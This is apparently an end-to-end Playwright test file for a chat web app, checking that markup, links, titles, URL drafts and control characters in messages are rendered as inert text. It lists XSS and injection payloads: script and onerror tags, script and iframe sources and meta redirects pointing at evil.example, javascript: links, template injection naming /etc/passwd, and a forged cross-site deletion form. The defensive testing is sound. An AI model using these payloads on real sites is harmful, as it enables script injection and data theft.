"""What comes in wrong, by accident or on purpose: shown as text or told in a sentence, and nothing runs."""

import re

import pytest
from playwright.sync_api import Page, expect

from e2e.conftest import OpenPage
from e2e.steps import (
    composer,
    open_app,
    own_messages,
    path_of,
    rename,
    reply,
    see_own_message,
    see_reply,
    see_the_end,
    send_message,
    start_conversation,
    titles,
)
from e2e.watch import Watch
from tests.model_server import ModelServer
from tests.server import Server

# Each would open a dialog, ask a server or change the page if anything of it were taken for more than text.
STRANGE_REQUEST = "[hx-get]:not(.retry__other)"  # that link is the page's own
TRAPS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(2)>",
    '<svg onload="alert(3)"><style>*{display:none}</style>',
    '"><iframe src="https://evil.example/"></iframe>',
    "</textarea></article></template><script src=//evil.example/x.js></script>",
    '<hx-partial hx-target="body" hx-swap="innerHTML">taken over</hx-partial>',
    '<div hx-get="https://evil.example/" hx-trigger="load"></div>',
    '<link rel=stylesheet href="https://evil.example/x.css"><base href="https://evil.example/">',
    '<form action="https://evil.example/"><input name=x><button>Click</button></form>',
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "{{ 7 * 7 }} {% include '/etc/passwd' %} ${7*7}",
    "data: forged\n\nevent: done\ndata: x\n\nid: 999999",
]
DANGEROUS_LINKS = (
    "[js](javascript:alert(1)) [data](data:text/html,<script>alert(2)</script>) [vb](vbscript:x) "
    "![pixel](https://evil.example/pixel.png) <javascript:alert(3)> [a](\x01javascript:alert(4))\n\n"
    '[title](https://example.org/ "\\"onmouseover=alert(5)")\n'
)


def test_markup_in_messages_and_replies_is_shown_as_text(page: Page, model: ModelServer) -> None:
    """The watch fails this test if a dialog opens, a policy is broken or a request leaves for another server."""
    text = "\n\n".join(TRAPS)
    model.script([{"reasoning": text}, {"text": text, "per": 5}])
    open_app(page)
    send_message(page, text)
    see_own_message(page, text)
    see_the_end(page)
    for trap in TRAPS[:-1]:
        see_reply(page, trap.replace("\n", " ")[:40])
    expect(
        reply(page).locator(f"script, img, svg, iframe, style, form[action*=evil], {STRANGE_REQUEST}, meta, link")
    ).to_have_count(0)
    expect(reply(page).locator(".step__content")).to_contain_text("<script>alert(1)</script>")
    page.reload()
    see_own_message(page, text)
    see_reply(page, "<script>alert(1)</script>")
    strange = f"script, img, svg, iframe, style, {STRANGE_REQUEST}"
    expect(page.locator("#messages").locator(strange)).to_have_count(0)
    expect(composer(page)).to_be_visible()


def test_links_lead_only_where_links_may(page: Page, model: ModelServer) -> None:
    model.script([{"text": DANGEROUS_LINKS, "per": 3}])
    open_app(page)
    send_message(page, "links")
    see_the_end(page)
    see_reply(page, "pixel")
    targets = reply(page).locator(".prose a").evaluate_all("links => links.map(link => link.protocol)")
    assert set(targets) <= {"https:"}
    expect(reply(page).locator("img, [onmouseover]")).to_have_count(0)


def test_markup_in_a_title_is_shown_as_text(page: Page) -> None:
    trap = "<img src=x onerror=alert(1)>\"'&amp;"
    start_conversation(page, trap, reply="<img src=x")
    expect(titles(page).first).to_have_text(trap)
    expect(page.get_by_role("heading", level=1)).to_have_text(trap)
    expect(page).to_have_title(f"{trap} · riverrun")
    rename(page, trap, "</title><script>alert(2)</script>")
    expect(page).to_have_title("</title><script>alert(2)</script> · riverrun")
    expect(titles(page).first).to_have_text("</title><script>alert(2)</script>")
    page.reload()
    expect(titles(page).first).to_have_text("</title><script>alert(2)</script>")


def test_a_draft_from_an_address_is_text(page: Page) -> None:
    open_app(page, "/?draft=%3C/textarea%3E%3Cscript%3Ealert(1)%3C/script%3E")
    expect(composer(page)).to_have_value("</textarea><script>alert(1)</script>")
    expect(own_messages(page)).to_have_count(0)


def test_control_characters_do_no_harm(page: Page, model: ModelServer) -> None:
    model.script([{"text": "a\u0000b\u001b[31mc\u202ed \ud83d\ude00 \u2028 e\r\nf\rg", "per": 1}])
    open_app(page)
    send_message(page, "bell \x07 and escape \x1b[0m and é 😀")
    see_own_message(page, re.compile("bell.*and escape.*and é 😀"))
    see_the_end(page)
    see_reply(page, "😀")
    page.reload()
    see_reply(page, "😀")


@pytest.mark.parametrize(
    "path", ["/c/00000000-0000-7000-8000-000000000000", "/c/nonsense", "/nowhere", "/runs/x/stream"]
)
@pytest.mark.parametrize("scripts", [True, False])
def test_an_unknown_address_gives_a_page_with_a_way_home(
    open_page: OpenPage, server: Server, watch: Watch, path: str, scripts: bool
) -> None:
    watch.expect("404")
    page = open_page(server.url, java_script_enabled=scripts)
    answer = page.goto(path)
    assert answer
    assert answer.status == 404
    expect(page.get_by_role("heading", name="Not found")).to_be_visible()
    page.get_by_role("link", name="To your conversations").click()
    expect(composer(page)).to_be_visible()


@pytest.mark.parametrize("query", ["after=abc", "after=-1", "after=99999999999999999999999", "after=1.5", "after="])
def test_a_cursor_that_is_not_a_number_is_refused(page: Page, model: ModelServer, query: str) -> None:
    run = run_of(page, model)
    for surface in ("stream", "snapshot"):
        answer = page.request.get(f"/runs/{run}/{surface}?{query}")
        assert answer.status == 400
        assert answer.headers["cache-control"] == "no-store"


def test_a_cursor_beyond_the_end_does_no_harm(page: Page, model: ModelServer) -> None:
    run = run_of(page, model)
    answer = page.request.get(f"/runs/{run}/stream?after=1000000")
    assert answer.ok
    assert answer.text().endswith("event: done\ndata: \n\n")


def run_of(page: Page, model: ModelServer) -> str:
    conversation = start_conversation(page).removeprefix("/c/")
    answer = page.request.get(f"/api/conversations/{conversation}")
    return str(answer.json()["messages"][1]["run_id"])


def test_another_site_can_neither_send_nor_delete(
    page: Page, server: Server, open_page: OpenPage, watch: Watch
) -> None:
    """A form of another origin, as it would stand on a hostile page. That origin is another port here."""
    path = start_conversation(page, "mine")
    with Server(server.folder / "hostile", RIVERRUN_MODEL="demo").start() as hostile:
        watch.expect("request to somebody else", "403", "Refused to send form data", "form-action")
        intruder = open_page(hostile.url, bypass_csp=True)
        open_app(intruder)
        intruder.evaluate(
            """action => {
              const form = Object.assign(document.createElement('form'), {method: 'post', action});
              document.body.append(form);
              form.submit();
            }""",
            f"{server.url}{path}/deletions",
        )
        expect(intruder.get_by_text("This came from another site")).to_be_visible()
    open_app(page, path)
    assert path_of(page) == path
    see_own_message(page, "mine")
